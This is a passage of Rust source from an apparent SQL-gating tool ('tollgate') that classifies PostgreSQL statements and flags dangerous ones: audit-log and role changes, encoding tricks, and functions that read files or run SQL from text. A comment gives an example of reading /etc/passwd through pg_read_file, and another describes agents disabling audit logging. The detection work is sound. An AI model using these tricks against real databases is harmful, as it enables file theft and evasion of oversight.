        Statement::AlterTable(alter) => !alter.operations.iter().all(|op| {
            matches!(
                op,
                AlterTableOperation::AlterColumn {
                    op: AlterColumnOperation::SetDefault { .. } | AlterColumnOperation::DropDefault,
                    ..
                }
            )
        }),
        _ => true,
    }
}

/// Whether a VACUUM's "table" is one of its own options the parser read
/// as one: an unquoted single word such as VERBOSE.
fn is_vacuum_option(name: &ObjectName) -> bool {
    match name.0.as_slice() {
        [part] => part.as_ident().is_some_and(|ident| {
            ident.quote_style.is_none()
                && matches!(
                    ident.value.to_ascii_lowercase().as_str(),
                    "full" | "freeze" | "verbose" | "analyze" | "analyse"
                )
        }),
        _ => false,
    }
}

/// A WHERE (or MERGE's WHEN MATCHED AND) that selects every row: none, or
/// the literal TRUE.
fn no_condition(condition: Option<&Expr>) -> bool {
    match condition {
        None => true,
        Some(Expr::Value(value)) => {
            matches!(value.value, sqlparser::ast::Value::Boolean(true))
        }
        Some(Expr::Nested(inner)) => no_condition(Some(inner)),
        Some(_) => false,
    }
}

/// Whether an option's value is false as PostgreSQL reads a boolean:
/// `false`, `off`, `no`, `0`, quoted or not (a prefix of them too, as
/// PostgreSQL takes `f` and `of`).
fn names_false(value: &Expr) -> bool {
    let text = match value {
        Expr::Value(v) => match &v.value {
            sqlparser::ast::Value::Boolean(b) => return !b,
            sqlparser::ast::Value::Number(n, _) => n.clone(),
            other => other.clone().into_string().unwrap_or_default(),
        },
        Expr::Identifier(ident) => ident.value.clone(),
        _ => return false,
    };
    let text = text.trim().to_ascii_lowercase();
    !text.is_empty()
        && (text == "0"
            || "false".starts_with(&text)
            || "no".starts_with(&text)
            || (text.len() >= 2 && "off".starts_with(&text)))
}

/// The kind from the statement's own type (nested statements may raise it).
fn top_kind(statement: &Statement) -> StatementKind {
    use StatementKind::*;
    match statement {
        Statement::Query(query) => {
            if query_selects_into(query) {
                Write
            } else {
                Read
            }
        }
        Statement::Insert(_)
        | Statement::Update(_)
        | Statement::Delete(_)
        | Statement::Merge(_) => Write,
        Statement::Copy { to: true, .. } => Read,
        Statement::Copy { to: false, .. } => Write,
        Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. } => Transaction,
        Statement::Grant(_)
        | Statement::Revoke(_)
        | Statement::GrantRole(_)
        | Statement::RevokeRole(_) => Dcl,
        Statement::CreateRole(_) | Statement::CreateUser(_) | Statement::AlterRole { .. } => Dcl,
        Statement::Drop {
            object_type: ObjectType::Role | ObjectType::User,
            ..
        } => Dcl,
        Statement::Set(set) => set_kind(set),
        Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::Prepare { .. }
        | Statement::Deallocate { .. }
        | Statement::Declare { .. }
        | Statement::Fetch { .. }
        | Statement::Close { .. }
        | Statement::Discard { .. }
        | Statement::ExplainTable { .. } => Utility,
        // EXPLAIN ANALYZE runs what it explains: of that kind at least.
        Statement::Explain {
            statement,
            analyze,
            options,
            ..
        } => {
            // PostgreSQL takes ANALYSE too, and an option's value as a
            // boolean spelled any of its ways.
            let runs = *analyze
                || options.iter().flatten().any(|option| {
                    let name = option.name.value.to_ascii_lowercase();
                    (name == "analyze" || name == "analyse")
                        && !option.arg.as_ref().is_some_and(names_false)
                });
            match runs {
                true => top_kind(statement).max(Utility),
                false => Utility,
            }
        }
        Statement::CreateTable(_)
        | Statement::CreateIndex(_)
        | Statement::CreateView(_)
        | Statement::CreateSchema { .. }
        | Statement::CreateFunction(_)
        | Statement::CreateExtension(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::AlterTable(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView { .. }
        | Statement::Drop { .. }
        | Statement::Truncate(_)
        | Statement::Comment { .. } => Ddl,
        _ => Admin,
    }
}

/// Whether a DROP's `CASCADE`/`RESTRICT` is CASCADE.
fn cascades(behavior: Option<&sqlparser::ast::DropBehavior>) -> bool {
    matches!(behavior, Some(sqlparser::ast::DropBehavior::Cascade))
}

/// See [`Operation::moves_names`].
fn moves_names(statement: &Statement) -> bool {
    match statement {
        // A rule rewrites what a relation's name gives (a view's is its
        // `_RETURN` rule).
        // ALTER INDEX ... RENAME renames any relation, tables and views too.
        Statement::AlterSchema(_)
        | Statement::AlterView { .. }
        | Statement::AlterIndex { .. }
        | Statement::CreateRule(_) => true,
        Statement::CreateView(create) => create.or_replace,
        Statement::AlterTable(alter) => alter.operations.iter().any(|op| {
            matches!(
                op,
                sqlparser::ast::AlterTableOperation::RenameTable { .. }
                    | sqlparser::ast::AlterTableOperation::RenameColumn { .. }
                    | sqlparser::ast::AlterTableOperation::SwapWith { .. }
                    // A new parent shows the table's rows under its name.
                    | sqlparser::ast::AlterTableOperation::Inherit { .. }
                    | sqlparser::ast::AlterTableOperation::AttachPartitionOf { .. }
            )
        }),
        Statement::Set(set) => {
            let names_it = |variable: &ObjectName| {
                matches!(
                    setting_name(variable).as_str(),
                    "search_path" | "role" | "session_authorization"
                )
            };
            match set {
                Set::SingleAssignment { variable, .. } => names_it(variable),
                Set::MultipleAssignments { assignments } => {
                    assignments.iter().any(|a| names_it(&a.name))
                }
                Set::ParenthesizedAssignments { variables, .. } => variables.iter().any(names_it),
                Set::SetRole { .. } | Set::SetSessionAuthorization(_) => true,
                _ => false,
            }
        }
        _ => false,
    }
}

fn set_kind(set: &Set) -> StatementKind {
    // Settings that change whom the session acts as, what an unqualified
    // name means, or how SQL text is read, are administration, not
    // utility; so is any form of SET not known to be harmless.
    let admin = match set {
        Set::SetTimeZone { .. } | Set::SetTransaction { .. } => false,
        Set::SingleAssignment { variable, .. } => is_admin_setting(variable),
        Set::MultipleAssignments { assignments } => {
            assignments.iter().any(|a| is_admin_setting(&a.name))
        }
        Set::ParenthesizedAssignments { variables, .. } => variables.iter().any(is_admin_setting),
        // SET NAMES is SET client_encoding; the rest set the role or
        // are not PostgreSQL's.
        _ => true,
    };
    if admin {
        StatementKind::Admin
    } else {
        StatementKind::Utility
    }
}

fn is_admin_setting(variable: &ObjectName) -> bool {
    let name = setting_name(variable);
    // The server's own record of what runs (its statement log, pgaudit,
    // event triggers): an agent turning it off for its session, where the
    // upstream role may (a superuser's), removes the independent ground
    // truth tollgate's audit is checked against.
    ADMIN_SETTINGS.contains(&name.as_str())
        // Any user may set this one: it only shortens parameters in the
        // server's error log lines.
        || (name.starts_with("log_") && name != "log_parameter_max_length_on_error")
        || name.starts_with("pgaudit.")
        || name == "event_triggers"
        // The server's monitoring of what runs: activity, statement
        // statistics, query ids, logged plans.
        || name.starts_with("track_")
        || name == "compute_query_id"
        || name.starts_with("pg_stat_statements.")
        || name.starts_with("pg_stat_monitor.")
        || name.starts_with("auto_explain.")
}

/// Whether a SET changes client_encoding (SET NAMES is its SQL-standard
/// spelling).
fn set_changes_encoding(set: &Set) -> bool {
    let is_encoding = |variable: &ObjectName| setting_name(variable) == "client_encoding";
    match set {
        // Drivers set it to what it already is (Rails' `encoding:
        // unicode`, psql's `\encoding UTF8`): that changes nothing.
        Set::SetNames { charset_name, .. } => !names_utf8(&charset_name.value),
        Set::SetNamesDefault {} => true,
        Set::SingleAssignment {
            variable, values, ..
        } => {
            is_encoding(variable) && !matches!(values.as_slice(), [value] if expr_names_utf8(value))
        }
        Set::MultipleAssignments { assignments } => {
            assignments.iter().any(|a| is_encoding(&a.name))
        }
        Set::ParenthesizedAssignments { variables, .. } => variables.iter().any(is_encoding),
        _ => false,
    }
}

/// Whether an encoding name is PostgreSQL's UTF8 (which also answers to
/// `UTF-8` and `unicode`, in any case).
fn names_utf8(name: &str) -> bool {
    let folded: String = name
        .trim()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric())
        .collect::<String>()
        .to_ascii_lowercase();
    folded == "utf8" || folded == "unicode"
}

/// Whether a SET value or function argument is a literal or bare name
/// that names UTF8.
fn expr_names_utf8(value: &Expr) -> bool {
    match value {
        Expr::Value(value) => value.clone().into_string().is_some_and(|v| names_utf8(&v)),
        Expr::Identifier(ident) => names_utf8(&ident.value),
        _ => false,
    }
}

/// Whether a call of `set_config` with `args` may set client_encoding:
/// it does when its first argument says so, and may when that argument is
/// not a literal tollgate can read (or the arguments cannot be listed).
fn set_config_may_change_encoding(args: Option<&[FunctionArg]>) -> bool {
    match args.and_then(|args| args.first()) {
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value)))) => {
            match value.clone().into_string() {
                Some(name) => {
                    name.trim().eq_ignore_ascii_case("client_encoding")
                        // Only a literal: a bare word in an argument is a
                        // column, whatever its name.
                        && !matches!(
                            args.and_then(|args| args.get(1)),
                            Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value))))
                                if value.clone().into_string().is_some_and(|v| names_utf8(&v))
                        )
                }
                None => true,
            }
        }
        _ => true,
    }
}

/// Whether a SET turns standard_conforming_strings to other than on
/// (resetting it, or setting it to its default, leaves it on: tollgate's
/// login asks for on).
fn set_turns_off_standard_strings(set: &Set) -> bool {
    let is_it = |variable: &ObjectName| setting_name(variable) == "standard_conforming_strings";
    match set {
        Set::SingleAssignment {
            variable, values, ..
        } => is_it(variable) && !matches!(values.as_slice(), [value] if expr_is_on(value)),
        Set::MultipleAssignments { assignments } => assignments.iter().any(|a| is_it(&a.name)),
        Set::ParenthesizedAssignments { variables, .. } => variables.iter().any(is_it),
        _ => false,
    }
}

/// Whether a setting's value is PostgreSQL's boolean true (`on`, `true`,
/// `yes`, `1`, or a prefix of one that names it alone), or `DEFAULT`.
fn expr_is_on(value: &Expr) -> bool {
    let word = match value {
        Expr::Value(value) => value.clone().into_string(),
        Expr::Identifier(ident) => Some(ident.value.clone()),
        _ => None,
    };
    match word {
        Some(word) => word_is_on(&word),
        // A number or a boolean, as written: `1`, `true`.
        None => matches!(value, Expr::Value(v) if word_is_on(&v.to_string())),
    }
}

/// [`expr_is_on`] of a word.
fn word_is_on(word: &str) -> bool {
    let word = word.trim().to_ascii_lowercase();
    matches!(word.as_str(), "on" | "1" | "default")
        || (!word.is_empty() && ("true".starts_with(&word) || "yes".starts_with(&word)))
}

/// Whether a call of `set_config` with `args` sets
/// standard_conforming_strings (named as a literal) to other than on. A
/// name that is not a literal counts as a change of client_encoding
/// already (see [`set_config_may_change_encoding`]).
fn set_config_turns_off_standard_strings(args: Option<&[FunctionArg]>) -> bool {
    let literal = |i: usize| match args.and_then(|args| args.get(i)) {
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value)))) => {
            value.clone().into_string()
        }
        _ => None,
    };
    literal(0).is_some_and(|name| {
        name.trim()
            .eq_ignore_ascii_case("standard_conforming_strings")
    }) && !literal(1).is_some_and(|value| word_is_on(&value))
}

/// Whether a call of `set_config` with `args` may set what names resolve
/// to or whom the session acts as: search_path, role,
/// session_authorization, or a setting not named by a literal.
fn set_config_moves_names(args: Option<&[FunctionArg]>) -> bool {
    match args.and_then(|args| args.first()) {
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(value)))) => {
            value.clone().into_string().is_none_or(|name| {
                matches!(
                    name.trim().to_ascii_lowercase().as_str(),
                    "search_path" | "role" | "session_authorization"
                )
            })
        }
        _ => true,
    }
}

/// Whether a `set_config` call's value (its second argument) is a
/// literal: then it carries nothing the statement read.
fn set_config_value_is_literal(args: Option<&[FunctionArg]>) -> bool {
    matches!(
        args.and_then(|args| args.get(1)),
        Some(FunctionArg::Unnamed(FunctionArgExpr::Expr(Expr::Value(_))))
    )
}

const ADMIN_SETTINGS: &[&str] = &[
    // Turns off foreign keys and triggers (superuser only).
    "session_replication_role",
    "role",
    "session_authorization",
    "search_path",
    "standard_conforming_strings",
    "backslash_quote",
    "escape_string_warning",
    "client_encoding",
];

/// The setting a SET names, as PostgreSQL folds it: `"role"` and `ROLE`
/// are the same setting.
fn setting_name(variable: &ObjectName) -> String {
    let parts: Vec<String> = variable
        .0
        .iter()
        .filter_map(|part| part.as_ident())
        .map(|ident| ident.value.to_ascii_lowercase())
        .collect();
    parts.join(".")
}

fn query_selects_into(query: &Query) -> bool {
    matches!(query.body.as_ref(), SetExpr::Select(select) if select.into.is_some())
}

/// The CTE names a query's body sees: a query's own, each with its
/// position, of which the first `visible` count (all, for the query's own
/// body or a RECURSIVE list; those before it, for a CTE's body), then its
/// enclosing queries'. Shared, not copied: a statement of many CTEs costs
/// one map, not one set per CTE (which grew with the square of their
/// number).
struct Scope {
    names: std::rc::Rc<HashMap<String, usize>>,
    visible: usize,
    parent: Option<std::rc::Rc<Scope>>,
}

/// Whether `name` is a CTE in `scope`.
fn in_scope(scope: Option<&std::rc::Rc<Scope>>, name: &str) -> bool {
    let mut at = scope;
    while let Some(scope) = at {
        if scope.names.get(name).is_some_and(|&i| i < scope.visible) {
            return true;
        }
        at = scope.parent.as_ref();
    }
    false
}

/// Collects relations, writes, dangers and CTE names in one walk.
#[derive(Default)]
struct Walker {
    relations: BTreeSet<String>,
    written: BTreeSet<String>,
    /// Written tables that the statement also reads (UPDATE t ... FROM t).
    read_also: BTreeSet<String>,
    /// CTE names in scope, one entry per query being walked: an
    /// unqualified name found among them is the CTE, not a table.
    scopes: Vec<Option<std::rc::Rc<Scope>>>,
    /// The scope each CTE's body will see, by the body's address (the
    /// walk reaches a body as a query of its own): without RECURSIVE a
    /// CTE sees only the CTEs before it, not itself.
    cte_body_scopes: HashMap<*const Query, Option<std::rc::Rc<Scope>>>,
    /// FOR UPDATE / FOR SHARE somewhere in the statement.
    locks_rows: bool,
    /// A data-modifying statement (INSERT, UPDATE, DELETE, MERGE, COPY
    /// FROM) or SELECT INTO somewhere in the statement.
    modifies_data: bool,
    /// A call of a built-in function that changes state.
    changes_state: bool,
    /// What built-in calls write when they run (a sequence `nextval`
    /// advances, `pg_largeobject`): writes of the statement unless its
    /// expressions are only stored (a column default).
    called_writes: BTreeSet<String>,
    /// A call of a function that is not a known built-in (see
    /// `Operation::calls_unknown_functions`).
    /// See [`Operation::may_call_by_name`].
    may_call_by_name: BTreeSet<String>,
    calls_unknown_functions: bool,
    /// Why the statement cannot be understood, if something in it hides
    /// what it reads (SQL given to a function as text, a routine body in a
    /// string, a view of every table's sampled values).
    not_understood: Option<String>,
    /// How often each table was met as a relation, and how often of those
    /// as the target of a write: a table met more often than targeted is
    /// also read (`WITH d AS (DELETE FROM t ...) SELECT * FROM t`).
    relation_visits: HashMap<String, usize>,
    target_visits: HashMap<String, usize>,
    /// Write targets named by their statement and not yet reached by the
    /// walk as relations.
    pending_targets: HashMap<String, usize>,
    dangers: BTreeSet<Danger>,
    calls_functions: bool,
    /// The walk is at a call in FROM (`FROM generate_series(1, 3)`),
    /// whose name it visits next as if it were a relation: that visit is
    /// not a read. Set for that one visit, not kept by name, so that a
    /// table of the same name read elsewhere in the statement still is.
    next_relation_is_a_call: bool,
    runs_prepared: bool,
    /// See [`Operation::runs_by_name`].
    runs_by_name: Vec<RunByName>,
    changes_encoding: bool,
    /// A `set_config` of standard_conforming_strings to other than on.
    turns_off_standard_strings: bool,
    /// A `set_config` of search_path, role or session_authorization (or of
    /// a setting it does not name as a literal): see
    /// [`Operation::moves_names`].
    moves_names: bool,
    /// A `set_config` whose value is not a literal: see
    /// [`Operation::copies_into_settings`].
    copies_into_settings: bool,
    /// Expressions open at this point of the walk, and the most at once
    /// (or the longest chain of set operations, if longer).
    expr_depth: usize,
    deepest: usize,
}

impl Walker {
    /// `name` is the target of a write that the walk also meets as a
    /// relation (INSERT, UPDATE, DELETE, MERGE, TRUNCATE, ALTER, CREATE);
    /// `returns` when its rows come back (RETURNING), which reads them.
    fn target(&mut self, name: &ObjectName, returns: bool) {
        for table in table_names(name) {
            *self.target_visits.entry(table.clone()).or_default() += 1;
            *self.pending_targets.entry(table.clone()).or_default() += 1;
            if returns {
                self.read_also.insert(table.clone());
            }
            if table == "pg_catalog.pg_settings" {
                // An UPDATE of pg_settings is set_config by another name.
                self.dangers.insert(Danger::FileOrProgramFunction);
                self.changes_encoding = true;
                self.calls_functions = true;
            }
            self.written.insert(table);
        }
    }

    /// A view or function of [`OTHER_SESSIONS_VIEWS`], met as a relation or
    /// called, makes the statement not understood.
    fn note_other_sessions(&mut self, name: &str) {
        if shows_other_sessions(name) {
            self.not_understood.get_or_insert_with(|| {
                format!(
                    "{name} shows the statements of other sessions, other identities' among them"
                )
            });
        }
    }

    /// A table met as a relation (`names`: what it may be).
    fn note_relation(&mut self, names: Vec<String>) {
        for name in names {
            if SAMPLE_VIEWS.contains(&name.as_str()) {
                self.not_understood.get_or_insert_with(|| {
                    format!("{name} shows sampled values of every table's columns, whichever tables a rule denies")
                });
            }
            if SERVER_FILE_VIEWS.contains(&name.as_str()) {
                self.dangers.insert(Danger::FileOrProgramFunction);
            }
            if is_toast_table(&name) {
                self.not_understood.get_or_insert_with(|| {
                    format!("{name} holds the out-of-line values of another table's columns, whichever tables a rule denies")
                });
            }
            self.note_other_sessions(&name);
            *self.relation_visits.entry(name.clone()).or_default() += 1;
            self.relations.insert(name);
        }
    }

    /// What a query body does that the walk does not visit as a relation or
    /// statement: `TABLE x` (which is `SELECT * FROM x`) and `SELECT ...
    /// INTO t` in any branch of a set operation (PostgreSQL creates `t`
    /// from the leftmost).
    fn note_body(&mut self, body: &SetExpr, scope: Option<&std::rc::Rc<Scope>>) {
        match body {
            SetExpr::Table(table) => {
                if let Some(name) = &table.table_name {
                    let unqualified_cte = table.schema_name.is_none()
                        && in_scope(scope, &fold(&name.value, name.quote_style.is_some()));
                    if !unqualified_cte {
                        let parts: Vec<_> =
                            table.schema_name.iter().chain([name]).cloned().collect();
                        self.note_relation(table_names(&ObjectName::from(parts)));
                    }
                }
            }
            SetExpr::Select(select) => {
                if let Some(into) = &select.into {
                    self.modifies_data = true;
                    for target in &into.targets {
                        let name = match target {
                            Expr::Identifier(ident) => Some(ObjectName::from(vec![ident.clone()])),
                            Expr::CompoundIdentifier(parts) => {
                                Some(ObjectName::from(parts.clone()))
                            }
                            _ => None,
                        };
                        match name {
                            Some(name) => self.written.extend(table_names(&name)),
                            // A target tollgate cannot name is still a write.
                            None => {
                                self.written.insert(UNKNOWN_TABLES.into());
                            }
                        }
                    }
                }
            }
            SetExpr::SetOperation { left, right, .. } => {
                self.note_body(left, scope);
                self.note_body(right, scope);
            }
            _ => {}
        }
    }

    /// A call of the function `name`, wherever it appears (an expression,
    /// a FROM item): dangerous functions, and set_config of client_encoding.
    /// A DROP: a danger of its own, and with CASCADE whatever depends on
    /// what it drops (views, keys of other tables, columns of a type),
    /// which the text does not name.
    fn note_drop(&mut self, cascade: bool) {
        if cascade {
            self.written.insert(UNKNOWN_TABLES.into());
        }
        self.dangers.insert(Danger::Drop);
    }

    fn note_call(&mut self, name: &ObjectName, args: Option<&[FunctionArg]>) {
        let Some(last) = name.0.last().and_then(|part| part.as_ident()) else {
            return;
        };
        // Folded as PostgreSQL folds names: `"Version"()` is not version().
        let last = fold(&last.value, last.quote_style.is_some());
        // Only a superuser can put a function in pg_catalog: a call named
        // so is a built-in. Unqualified, a known built-in's name is taken
        // for it (the search_path tollgate sets is pg_catalog, then
        // public).
        let builtin = name.0.len() == 2
            && name.0[0].as_ident().is_some_and(|schema| {
                fold(&schema.value, schema.quote_style.is_some()) == "pg_catalog"
            })
            || name.0.len() == 1
                && [
                    PURE_FUNCTIONS,
                    CATALOG_INFO_FUNCTIONS,
                    STATE_CHANGING_FUNCTIONS,
                    DANGEROUS_FUNCTIONS,
                    SQL_TEXT_FUNCTIONS,
                ]
                .iter()
                .any(|list| list.contains(&last.as_str()));
        if !builtin {
            self.calls_unknown_functions = true;
        } else if name.0.len() == 1 {
            self.may_call_by_name.insert(last.clone());
        }
        self.note_called_name(&last, args.and_then(|args| args.first()));
        // pg_cron's `cron.schedule` runs SQL given as text, later (its
        // schema is never on the search_path tollgate sets).
        let cron = name.0.len() >= 2
            && name.0[name.0.len() - 2]
                .as_ident()
                .is_some_and(|schema| schema.value.eq_ignore_ascii_case("cron"))
            && (last.starts_with("schedule") || last == "alter_job");
        if cron {
            self.not_understood.get_or_insert_with(|| {
                format!("{last} runs SQL given to it as text, whose tables tollgate cannot see")
            });
        }
        if last == "set_config" && set_config_may_change_encoding(args) {
            self.changes_encoding = true;
        }
        if last == "set_config" && set_config_turns_off_standard_strings(args) {
            self.turns_off_standard_strings = true;
        }
        if last == "set_config" && set_config_moves_names(args) {
            self.moves_names = true;
        }
        if last == "set_config" && !set_config_value_is_literal(args) {
            self.copies_into_settings = true;
        }
    }
}

impl Walker {
    /// The tables a GRANT or REVOKE of privileges on `objects` writes.
    fn note_privileged_tables(&mut self, objects: Option<&sqlparser::ast::GrantObjects>) {
        use sqlparser::ast::GrantObjects;
        match objects {
            Some(GrantObjects::Tables(names))
            | Some(GrantObjects::Views(names))
            | Some(GrantObjects::Sequences(names)) => {
                for name in names {
                    self.written.extend(table_names(name));
                }
            }
            Some(GrantObjects::AllTablesInSchema { schemas })
            | Some(GrantObjects::AllViewsInSchema { schemas })
            | Some(GrantObjects::AllSequencesInSchema { schemas })
            | Some(GrantObjects::AllMaterializedViewsInSchema { schemas }) => {
                for schema in schemas {
                    self.written.insert(every_table_of(schema));
                }
            }
            _ => {}
        }
    }

    /// What calling a function named `last` does, from its name alone: the
    /// lists of built-ins that are dangerous, change state, read files or
    /// large objects, run SQL given as text, or show other sessions. Used
    /// for every call, and for every name that may be one without looking
    /// like one: PostgreSQL runs `(expr).f` as `f(expr)` when `expr` has no
    /// column `f` (`('/etc/passwd'::text).pg_read_file`). `first_arg` is
    /// the call's first argument, when the text shows one.
    fn note_called_name(&mut self, last: &str, first_arg: Option<&FunctionArg>) {
        if DANGEROUS_FUNCTIONS.contains(&last) {
            self.dangers.insert(Danger::FileOrProgramFunction);
        }
        if STATE_CHANGING_FUNCTIONS.contains(&last) {
            self.changes_state = true;
        }
        if TABLE_ROW_CHANGERS.contains(&last) {
            self.called_writes.insert(UNKNOWN_TABLES.into());
        }
        if RAW_FILE_FUNCTIONS.contains(&last) {
            self.note_relation(vec![UNKNOWN_TABLES.into()]);
        }
        // A large object's data is in pg_largeobject, whose rules hold.
        if matches!(last, "lo_get" | "loread") {
            self.note_relation(vec!["pg_catalog.pg_largeobject".into()]);
        }
        if LARGE_OBJECT_WRITERS.contains(&last) {
            self.called_writes
                .insert("pg_catalog.pg_largeobject".into());
        }
        // The value a sequence holds, read without naming it as a relation.
        if last == "pg_sequence_last_value" {
            let sequence = first_arg.and_then(sequence_named_by);
            self.note_relation(sequence.unwrap_or_else(|| vec![UNKNOWN_TABLES.into()]));
        }
        if SEQUENCE_WRITERS.contains(&last) {
            let sequence = first_arg.and_then(sequence_named_by);
            self.called_writes
                .extend(sequence.unwrap_or_else(|| vec![UNKNOWN_TABLES.into()]));
        }
        self.note_other_sessions(last);
        if SQL_TEXT_FUNCTIONS.contains(&last) {
            self.not_understood.get_or_insert_with(|| {
                format!("{last} runs SQL given to it as text, whose tables tollgate cannot see")
            });
        }
    }
}

/// The sequence a `nextval`/`setval` argument names: a string constant
/// (cast to regclass or not) read as PostgreSQL reads a regclass, or
/// `None` for anything computed.
fn sequence_named_by(arg: &FunctionArg) -> Option<Vec<String>> {
    let FunctionArg::Unnamed(FunctionArgExpr::Expr(expr)) = arg else {
        return None;
    };
    let mut expr = expr;
    while let Expr::Cast { expr: inner, .. } | Expr::Nested(inner) = expr {
        expr = inner;
    }
    let Expr::Value(value) = expr else {
        return None;
    };
    let sqlparser::ast::Value::SingleQuotedString(text) = &value.value else {
        return None;
    };
    let mut parser = Parser::new(&PostgreSqlDialect {}).try_with_sql(text).ok()?;
    let name = parser.parse_object_name(false).ok()?;
    // The whole text, or it names no relation PostgreSQL would find.
    if parser.peek_token().token != Token::EOF {
        return None;
    }
    Some(table_names(&name))
}

impl Visitor for Walker {
    type Break = ();

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        use std::rc::Rc;
        // Measured without recursion before `note_body` recurses on it.
        self.deepest = self.deepest.max(set_operation_depth(&query.body));
        if self.deepest > MAX_EXPRESSION_DEPTH {
            return ControlFlow::Break(());
        }
        let enclosing = match self.cte_body_scopes.remove(&(query as *const Query)) {
            Some(scope) => scope,
            None => self.scopes.last().cloned().flatten(),
        };
        let scope = match &query.with {
            Some(with) => {
                let mut names = HashMap::new();
                for (i, cte) in with.cte_tables.iter().enumerate() {
                    names
                        .entry(fold(
                            &cte.alias.name.value,
                            cte.alias.name.quote_style.is_some(),
                        ))
                        .or_insert(i);
                }
                let names = Rc::new(names);
                for (i, cte) in with.cte_tables.iter().enumerate() {
                    let body = Scope {
                        names: names.clone(),
                        visible: if with.recursive { usize::MAX } else { i },
                        parent: enclosing.clone(),
                    };
                    self.cte_body_scopes
                        .insert(&*cte.query as *const Query, Some(Rc::new(body)));
                }
                Some(Rc::new(Scope {
                    names,
                    visible: usize::MAX,
                    parent: enclosing,
                }))
            }
            None => enclosing,
        };
        if !query.locks.is_empty() {
            self.locks_rows = true;
        }
        self.note_body(&query.body, scope.as_ref());
        self.scopes.push(scope);
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<()> {
        self.scopes.pop();
        ControlFlow::Continue(())
    }

    fn pre_visit_relation(&mut self, relation: &ObjectName) -> ControlFlow<()> {
        if std::mem::take(&mut self.next_relation_is_a_call) {
            return ControlFlow::Continue(());
        }
        let scope = self.scopes.last().and_then(Option::as_ref);
        let is_cte = match relation.0.as_slice() {
            [only] => only.as_ident().is_some_and(|ident| {
                in_scope(scope, &fold(&ident.value, ident.quote_style.is_some()))
            }),
            // A qualified name is never a CTE.
            _ => false,
        };
        // The target of a write is the real table, whatever CTE shares its
        // name (the statement named it just before the walk reaches it).
        let names = table_names(relation);
        let is_target = names
            .iter()
            .any(|name| match self.pending_targets.get_mut(name) {
                Some(left) if *left > 0 => {
                    *left -= 1;
                    true
                }
                _ => false,
            });
        if is_target || !is_cte {
            self.note_relation(names);
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            // `FROM generate_series(...)` is a function call, not a table
            // (it is visited as a relation too); any such call may write.
            TableFactor::Table {
                name,
                args: Some(args),
                ..
            } => {
                self.calls_functions = true;
                self.next_relation_is_a_call = true;
                self.note_call(name, Some(&args.args));
            }
            // `FROM LATERAL f(...)`: a call the relation visit never sees.
            TableFactor::Function { name, args, .. } => {
                self.calls_functions = true;
                self.note_call(name, Some(args));
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn post_visit_expr(&mut self, _: &Expr) -> ControlFlow<()> {
        self.expr_depth = self.expr_depth.saturating_sub(1);
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        self.expr_depth += 1;
        self.deepest = self.deepest.max(self.expr_depth);
        if self.deepest > MAX_EXPRESSION_DEPTH {
            return ControlFlow::Break(());
        }
        // An operator named in a schema other than the catalog's
        // (`OPERATOR(app.+)`) runs a function tollgate cannot see into,
        // whatever its spelling; other operators of the database's own are
        // found by their spelling (see `classify`).
        if let Expr::BinaryOp {
            op: sqlparser::ast::BinaryOperator::PGCustomBinaryOperator(parts),
            ..
        } = expr
        {
            if parts.first().is_none_or(|schema| schema != "pg_catalog") {
                self.calls_functions = true;
                self.calls_unknown_functions = true;
            }
        }
        match expr {
            // `t.f`: when `t` has no column `f` (the alias of a scalar a
            // function in FROM returns, say), PostgreSQL runs `f(t)`.
            // Judged as that call; a column that bears the name of a
            // function judged so is judged the same way, on the safe side.
            Expr::CompoundIdentifier(parts) if parts.len() >= 2 => {
                if let Some(last) = parts.last() {
                    let name = fold(&last.value, last.quote_style.is_some());
                    self.note_called_name(&name, None);
                    self.may_call_by_name.insert(name);
                }
            }
            // Calls of functions by name that the parser reads as syntax
            // of their own: PostgreSQL looks each up like any call.
            Expr::Ceil { .. } => {
                self.may_call_by_name.insert("ceil".to_owned());
            }
            Expr::Floor { .. } => {
                self.may_call_by_name.insert("floor".to_owned());
            }
            Expr::Substring { .. } => {
                self.may_call_by_name
                    .extend(["substring".to_owned(), "substr".to_owned()]);
            }
            Expr::Trim { .. } => {
                self.may_call_by_name
                    .extend(["btrim", "ltrim", "rtrim"].map(str::to_owned));
            }
            Expr::Position { .. } => {
                self.may_call_by_name
                    .extend(["position".to_owned(), "strpos".to_owned()]);
            }
            Expr::Overlay { .. } => {
                self.may_call_by_name.insert("overlay".to_owned());
            }
            // PostgreSQL has no CONVERT syntax: an ordinary call.
            Expr::Convert { .. } => {
                self.calls_functions = true;
                self.may_call_by_name.insert("convert".to_owned());
            }
            Expr::Extract { .. } => {
                self.may_call_by_name
                    .extend(["extract".to_owned(), "date_part".to_owned()]);
            }
            // `(o).customer_email`, `(o).a.b`: each field name may be a
            // function of the value before it.
            Expr::CompoundFieldAccess { access_chain, .. } => {
                for access in access_chain {
                    if let sqlparser::ast::AccessExpr::Dot(Expr::Identifier(field)) = access {
                        let name = fold(&field.value, field.quote_style.is_some());
                        // Its argument is the value before the dot.
                        self.note_called_name(&name, None);
                        self.may_call_by_name.insert(name);
                    }
                }
            }
            _ => {}
        }
        if let Expr::Function(function) = expr {
            let unqualified_pure = function.name.0.len() == 1
                && function.name.0[0].as_ident().is_some_and(|name| {
                    name.quote_style.is_none()
                        && PURE_FUNCTIONS.contains(&name.value.to_ascii_lowercase().as_str())
                });
            if !unqualified_pure {
                self.calls_functions = true;
            }
            let args = match &function.args {
                FunctionArguments::List(list) => Some(list.args.as_slice()),
                _ => None,
            };
            self.note_call(&function.name, args);
        }
        ControlFlow::Continue(())
    }

